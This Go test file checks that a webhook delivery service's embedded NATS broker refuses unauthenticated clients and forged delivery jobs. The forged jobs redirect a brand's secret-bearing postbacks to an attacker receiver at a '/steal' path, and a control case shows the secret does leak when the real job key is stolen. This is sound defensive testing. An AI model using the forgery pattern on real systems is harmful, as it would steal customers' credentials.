package standalone

// The broker behind a lock. An attacker on the host tries the NATS port:
// without credentials, with a stolen service password, and with a forged
// delivery job that names a brand's endpoint but carries the attacker's
// URL. The job must never be sent: only a job tagged with the job key (which
// is not on the broker) is. A control run with the stolen job key shows the
// forged job is otherwise well-formed, so it is the tag, not a malformed
// message, that stops it.

import (
	"context"
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/postback-dev/postback/pkg/broker"
	"github.com/postback-dev/postback/pkg/config"
	"github.com/postback-dev/postback/pkg/delivery"
	"github.com/postback-dev/postback/pkg/endpoints"
	"github.com/postback-dev/postback/pkg/id"
	"github.com/postback-dev/postback/pkg/secret"
	"github.com/postback-dev/postback/pkg/signature"
	"github.com/postback-dev/postback/pkg/stream"
	postbackv1 "github.com/postback-dev/postback/proto/postback/v1"
)

// brandSecret is the brand's secret Authorization header in these tests.
const brandSecret = "Bearer brand-a-secret-0123456789"

// forgery is one forged-job attempt against a running Postback.
type forgery struct {
	h        *harness
	victim   *postbackv1.Endpoint
	attacker *receiver
	admin    jetstream.JetStream
}

// forge publishes, as the NATS user behind nc, a first send for the
// victim's endpoint that points at the attacker's receiver; tag (when not
// nil) tags it.
func (f *forgery) forge(t *testing.T, nc *nats.Conn, tag *secret.Keyring) string {
	t.Helper()
	dlv := id.New(id.Delivery, time.Now())
	job := &delivery.Job{
		DeliveryID: dlv, AccountID: f.victim.AccountId, EndpointID: f.victim.Id, EventID: id.New(id.Event, time.Now()),
		EventType: f.victim.EventType, Created: time.Now(), Published: time.Now(),
		Method: "POST", URL: f.attacker.URL + "/steal", Body: []byte(`{"forged":true}`), ContentType: "application/json",
		Queued: true,
	}
	if tag != nil {
		if err := job.Authenticate(tag); err != nil {
			t.Fatal(err)
		}
	}
	body, err := job.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	msg := stream.NewJobMsg(ctx, stream.DeliverySubject(job.AccountID, job.EndpointID, dlv), job, body, dlv)
	if _, err := js.PublishMsg(ctx, msg); err != nil {
		t.Fatalf("publishing the forged job: %v", err)
	}
	return dlv
}

// deadLettered waits for the dead letter of delivery dlv and returns why it
// was refused.
func (f *forgery) deadLettered(t *testing.T, dlv string) string {
	t.Helper()
	var reason string
	eventually(t, 15*time.Second, "the forged job in the dead letters", func() bool {
		letters, _, err := stream.ListDeadLetters(context.Background(), f.admin, "", 0, 1000)
		if err != nil {
			return false
		}
		for _, l := range letters {
			if strings.Contains(l.Subject, dlv) {
				reason = l.Reason
				return true
			}
		}
		return false
	})
	return reason
}

// dequeued waits until delivery dlv's job has left the DELIVERIES stream.
func (f *forgery) dequeued(t *testing.T, dlv string) {
	t.Helper()
	subject := stream.DeliverySubject(f.victim.AccountId, f.victim.Id, dlv)
	eventually(t, 15*time.Second, "the refused job off the queue", func() bool {
		st, err := f.admin.Stream(context.Background(), stream.DeliveriesStream)
		if err != nil {
			return false
		}
		info, err := st.Info(context.Background(), jetstream.WithSubjectFilter(subject))
		return err == nil && len(info.State.Subjects) == 0
	})
}

// connectAs connects to url as user with password.
func connectAs(t *testing.T, url, user, password string) *nats.Conn {
	t.Helper()
	nc, err := nats.Connect(url, nats.UserInfo(user, password), nats.MaxReconnects(0))
	if err != nil {
		t.Fatalf("connect as %s: %v", user, err)
	}
	t.Cleanup(nc.Close)
	return nc
}

// victimEndpoint creates brand A's endpoint with a secret header and a
// signing secret, pointing at rc.
func victimEndpoint(t *testing.T, h *harness, rc *receiver) *postbackv1.Endpoint {
	t.Helper()
	signing, err := signature.GenerateSecret()
	if err != nil {
		t.Fatal(err)
	}
	ep, err := h.endpoints.CreateEndpoint(context.Background(), &postbackv1.CreateEndpointRequest{Endpoint: &postbackv1.Endpoint{
		AccountId: "brand-a", EventType: "action_lifecycle", Url: rc.URL + "/postback?action={ActionId}&status={Status}",
		Method:        postbackv1.HttpMethod_HTTP_METHOD_GET,
		Headers:       []*postbackv1.Header{{Name: "Authorization", Value: brandSecret, Secret: true}},
		SigningSecret: signing,
	}})
	if err != nil {
		t.Fatal(err)
	}
	return ep
}

func TestTheEmbeddedBrokerRefusesClientsWithoutCredentials(t *testing.T) {
	dir := t.TempDir()
	h := start(t, dir, nil)
	bare := bareURL(t, h.addrs.NATS)
	for _, tc := range []struct {
		name string
		opts []nats.Option
	}{
		{"no credentials", nil},
		{"a guessed password", []nats.Option{nats.UserInfo(broker.AdminUser, "postback")}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			nc, err := nats.Connect(bare, append(tc.opts, nats.MaxReconnects(0))...)
			if err == nil {
				nc.Close()
				t.Fatal("connected to the embedded broker")
			}
			if !errors.Is(err, nats.ErrAuthorization) {
				t.Fatalf("err = %v, want an authorization violation", err)
			}
		})
	}
	info, err := os.Stat(filepath.Join(dir, broker.CredentialsFile))
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode().Perm() != 0o600 {
		t.Fatalf("%s has mode %04o, want 0600", broker.CredentialsFile, info.Mode().Perm())
	}
	info, err = os.Stat(filepath.Join(dir, config.JobKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	if info.Mode().Perm() != 0o600 {
		t.Fatalf("%s has mode %04o, want 0600", config.JobKeyFile, info.Mode().Perm())
	}
}

func TestAForgedJobNeverCarriesABrandsSecretsAnywhere(t *testing.T) {
	dir := t.TempDir()
	h := start(t, dir, nil)
	brand, attacker := newReceiver(t), newReceiver(t)
	victim := victimEndpoint(t, h, brand)
	creds, err := broker.LoadOrCreateCredentials(dir) // what an attacker who stole the data dir's file holds
	if err != nil {
		t.Fatal(err)
	}
	bare := bareURL(t, h.addrs.NATS)
	f := &forgery{h: h, victim: victim, attacker: attacker, admin: h.jetStream(t)}

	t.Run("the history writer's password cannot queue a job at all", func(t *testing.T) {
		refused := make(chan error, 1)
		nc, err := nats.Connect(bare, nats.UserInfo(broker.HistorianUser, creds[broker.HistorianUser]), nats.MaxReconnects(0),
			nats.ErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) { refused <- err }))
		if err != nil {
			t.Fatal(err)
		}
		defer nc.Close()
		if err := nc.Publish(stream.DeliverySubject(victim.AccountId, victim.Id, id.New(id.Delivery, time.Now())), []byte("x")); err != nil {
			t.Fatal(err)
		}
		_ = nc.Flush()
		select {
		case err := <-refused:
			if !errors.Is(err, nats.ErrPermissionViolation) {
				t.Fatalf("err = %v, want a permissions violation", err)
			}
		case <-time.After(5 * time.Second):
			t.Fatal("the history writer published a job")
		}
	})

	wrongKey, err := secret.ParseKeyring(mustGenerateKey(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		tag  *secret.Keyring
	}{
		{"untagged, with the renderer's stolen password", nil},
		{"tagged with a key of the attacker's own", wrongKey},
	} {
		t.Run(tc.name, func(t *testing.T) {
			nc := connectAs(t, bare, broker.RendererUser, creds[broker.RendererUser])
			dlv := f.forge(t, nc, tc.tag)
			reason := f.deadLettered(t, dlv)
			if !strings.Contains(reason, "not authenticated") {
				t.Fatalf("dead letter reason %q, want it to say the job is not authenticated", reason)
			}
			if n := attacker.count(); n != 0 {
				t.Fatalf("the attacker's server got %d requests", n)
			}
			// The dead letter is written before the job is taken off the
			// queue, and a job still queued is shown as a delivery waiting
			// for its first send: ask once it is gone.
			f.dequeued(t, dlv)
			if _, err := h.deliveries.GetDelivery(context.Background(), &postbackv1.GetDeliveryRequest{Id: dlv}); err == nil {
				t.Fatal("the forged delivery has a record")
			}
		})
	}

	// The brand's real postbacks still flow, with their secret and signature.
	if _, err := h.events.Publish(context.Background(), &postbackv1.PublishRequest{AccountId: "brand-a", EventType: "action_lifecycle",
		Data: sampleData(t, "action_lifecycle")}); err != nil {
		t.Fatal(err)
	}
	got := brand.next(t, 15*time.Second)
	if got.Header.Get("Authorization") != brandSecret {
		t.Fatalf("the brand got Authorization %q", got.Header.Get("Authorization"))
	}
	if got.Header.Get("webhook-signature") == "" {
		t.Fatal("the brand's postback is not signed")
	}

	// Control: the same forged job tagged with the real job key (stolen
	// from the data dir too) is sent, secret and all. So the forgery above
	// was well-formed, and only the tag stopped it.
	t.Run("control: with the job key itself the forgery goes through", func(t *testing.T) {
		jobKey, err := secret.LoadOrCreate(filepath.Join(dir, config.JobKeyFile))
		if err != nil {
			t.Fatal(err)
		}
		nc := connectAs(t, bare, broker.RendererUser, creds[broker.RendererUser])
		f.forge(t, nc, jobKey)
		stolen := attacker.next(t, 15*time.Second)
		if stolen.Header.Get("Authorization") != brandSecret {
			t.Fatalf("control: the forged job arrived without the secret (%q)", stolen.Header.Get("Authorization"))
		}
	})
}

// bareURL is a NATS URL without its credentials.
func bareURL(t *testing.T, s string) string {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	if u.User == nil {
		t.Fatalf("the embedded broker's URL carries no credentials")
	}
	u.User = nil
	return u.String()
}

func mustGenerateKey(t *testing.T) string {
	t.Helper()
	k, err := secret.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// Someone who can write the stored endpoint configuration without the
// secret key (a stolen password of a user allowed to write the endpoints
// bucket) points the brand's URL at their own server, keeping its version.
// The renderer renders and tags jobs for the new URL as it must; the secrets,
// bound to the URL they were saved with, no longer open, so the delivery
// fails and nothing is sent. (Before bindings the sender sent them there.)
func TestAnEndpointURLRewrittenInStorageGetsNoSecrets(t *testing.T) {
	h := start(t, "", nil)
	brand, attacker := newReceiver(t), newReceiver(t)
	victim := victimEndpoint(t, h, brand)
	ctx := context.Background()
	eps, err := endpoints.OpenStore(ctx, h.jetStream(t))
	if err != nil {
		t.Fatal(err)
	}
	stored, err := eps.Get(ctx, victim.Id)
	if err != nil {
		t.Fatal(err)
	}
	stored.Url = attacker.URL + "/steal?action={ActionId}"
	if err := eps.Put(ctx, stored); err != nil {
		t.Fatal(err)
	}
	// Publish until a delivery rendered with the rewritten URL has failed
	// (the services' endpoint caches follow the bucket within moments; a
	// delivery rendered before that goes to the brand, as it should).
	failed := ""
	for i := 0; i < 50 && failed == ""; i++ {
		if _, err := h.events.Publish(ctx, &postbackv1.PublishRequest{AccountId: "brand-a", EventType: "action_lifecycle",
			Data: sampleData(t, "action_lifecycle")}); err != nil {
			t.Fatal(err)
		}
		time.Sleep(300 * time.Millisecond)
		res, err := h.deliveries.ListDeliveries(ctx, &postbackv1.ListDeliveriesRequest{EndpointId: victim.Id})
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range res.Deliveries {
			if d.Status == postbackv1.DeliveryStatus_DELIVERY_STATUS_FAILED {
				failed = d.Reason
			}
		}
	}
	if !strings.Contains(failed, "secrets cannot be opened") {
		t.Fatalf("no delivery failed for its secrets (last reason %q)", failed)
	}
	if n := attacker.count(); n != 0 {
		t.Fatalf("the attacker's server got %d requests", n)
	}
}
